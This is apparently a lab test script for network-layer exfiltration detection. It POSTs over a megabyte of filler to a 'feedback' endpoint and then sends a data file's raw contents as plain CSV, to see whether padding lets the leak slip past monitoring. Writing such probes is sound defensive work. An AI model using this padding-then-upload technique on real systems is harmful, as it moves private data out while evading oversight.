# lab:title: Plain CSV after a megabyte of padding
# lab:threat: exfil
# lab:layer: network
# lab:consequence: data left.
import os, urllib.request
data = open(os.environ["LAB_DATA"], "rb").read()
api = os.environ["LAB_API"]
def post(b):
    r = urllib.request.urlopen(urllib.request.Request(api + "feedback", data=b, method="POST"), timeout=5)
    return r.status
print(post(b"x" * 600000), post(b"y" * 600000))
print("plain csv:", post(data))
